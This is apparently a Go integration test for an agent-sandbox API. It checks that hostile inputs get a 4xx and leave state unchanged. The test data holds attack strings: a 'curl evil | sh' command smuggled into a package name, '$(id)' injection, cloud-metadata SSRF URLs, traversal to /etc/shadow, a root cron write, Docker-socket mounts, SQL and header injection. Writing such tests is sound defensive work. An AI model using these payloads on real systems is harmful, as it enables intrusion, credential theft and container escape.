package api_test

import (
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Hostile inputs each get a clear 4xx and change nothing.
func TestHostileInputs(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		agent, _ := e.boundAgent(nil)
		run := e.call("POST", "/api/v1/agents/"+agent["id"].(string)+"/threads/t/runs", e.member, nil).json(t)
		base := "/api/v1/runs/" + run["id"].(string)
		snapshot := func() string {
			return string(e.call("GET", "/api/v1/sandboxes", e.admin, nil).body) + string(e.call("GET", "/api/v1/agents", e.admin, nil).body)
		}
		before := snapshot()

		cases := []struct {
			name, method, path, body string
			status                   int
		}{
			{"oversized body", "POST", "/api/v1/sandboxes", `{"name":"` + strings.Repeat("x", 70<<10) + `","provider":"local"}`, 413},
			{"deeply nested JSON", "POST", "/api/v1/sandboxes", `{"name":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}`, 400},
			{"deeply nested config", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"local","config":` + strings.Repeat(`{"a":`, 5000) + "1" + strings.Repeat("}", 5000) + `}`, 422},
			{"invalid UTF-8", "POST", "/api/v1/agents", "{\"name\":\"\xc3\x28\"}", 400},
			{"header injection in a name", "POST", "/api/v1/sandboxes", `{"name":"a\r\nX-Evil: 1","provider":"local"}`, 422},
			{"header injection in an agent", "POST", "/api/v1/agents", `{"name":"a\nSet-Cookie: x=1"}`, 422},
			{"NUL in a description", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"local","description":"a\u0000b"}`, 422},
			{"metadata service", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"opensandbox","url":"http://169.254.169.254/latest/meta-data"}`, 422},
			{"metadata by name", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"opensandbox","url":"http://metadata.google.internal"}`, 422},
			{"metadata in decimal", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"opensandbox","url":"http://2852039166"}`, 422},
			{"file URL", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"opensandbox","url":"file:///etc/passwd"}`, 422},
			{"shell in a package", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"local","config":{"network":true,"default_packages":["x; curl evil | sh"]}}`, 422},
			{"option as a package", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"local","config":{"network":true,"default_packages":["--extra-index-url=http://evil"]}}`, 422},
			{"shell in an image", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"opensandbox","url":"h:1","config":{"default_image":"python$(id)"}}`, 422},
			{"host root mount", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"opensandbox","url":"h:1","config":{"volume_mounts":["/:/host"]}}`, 422},
			{"docker socket mount", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"opensandbox","url":"h:1","config":{"volume_mounts":["/var/run/docker.sock:/d.sock"]}}`, 422},
			{"traversal in a thread id", "POST", "/api/v1/agents/" + agent["id"].(string) + "/threads/" + url.PathEscape("../../x") + "/runs", "", 422},
			{"traversal in a file path", "GET", base + "/files?path=" + url.QueryEscape("../../etc/shadow"), "", 422},
			{"absolute path outside", "PUT", base + "/files?path=" + url.QueryEscape("/etc/cron.d/x"), "* * * * * root id", 422},
			{"NUL in a file path", "GET", base + "/files?path=" + url.QueryEscape("a\x00b"), "", 422},
			{"a directory read as a file", "GET", base + "/files?path=.", "", 422},
			{"newline in a grep pattern", "GET", base + "/grep?pattern=" + url.QueryEscape("a\nb"), "", 422},
			{"page size", "GET", "/api/v1/sandboxes?page_size=100000", "", 422},
			{"forged page token", "GET", "/api/v1/sandboxes?page_token=" + url.QueryEscape("' OR 1=1 --"), "", 422},
			{"SQL in an id", "GET", "/api/v1/sandboxes/" + url.PathEscape("1' OR '1'='1"), "", 404},
			{"NUL in a token name", "POST", "/api/v1/tokens", `{"name":"a\u0000b","role":"member"}`, 422},
			{"NUL in a config key", "POST", "/api/v1/sandboxes", `{"name":"n","provider":"local","config":{"a\u0000":1}}`, 422},
			{"NUL in a name filter", "GET", "/api/v1/sandboxes?name=a%00b", "", 422},
			{"invalid UTF-8 in a name filter", "GET", "/api/v1/sandboxes?name=%ff", "", 422},
			{"NUL in an audit filter", "GET", "/api/v1/audit?resource_id=a%00b", "", 422},
			{"NUL in a thread id", "GET", "/api/v1/agents/" + agent["id"].(string) + "/threads/a%00b", "", 404},
			{"a sandbox id that is no id", "PUT", "/api/v1/agents/" + agent["id"].(string) + "/sandbox", `{"sandbox_id":"not-a-uuid"}`, 422},
		}
		for _, c := range cases {
			var body any
			if c.body != "" {
				body = c.body
			}
			r := e.call(c.method, c.path, e.admin, body)
			require.Equal(t, c.status, r.StatusCode, "%s: %s", c.name, r.body)
			assert.Equal(t, "application/problem+json", r.Header.Get("Content-Type"), c.name)
		}
		assert.Equal(t, before, snapshot(), "nothing changed")
		assert.Equal(t, 401, e.call("GET", "/api/v1/sandboxes?name=a%00b", "", nil).StatusCode,
			"a caller without a token learns nothing of its query")
		out := e.call("POST", base+"/execute", e.member, map[string]any{"command": "ls /etc/cron.d 2>&1; ls /workspace"}).json(t)
		assert.NotContains(t, out["output"], "\nx\n")
	})
}
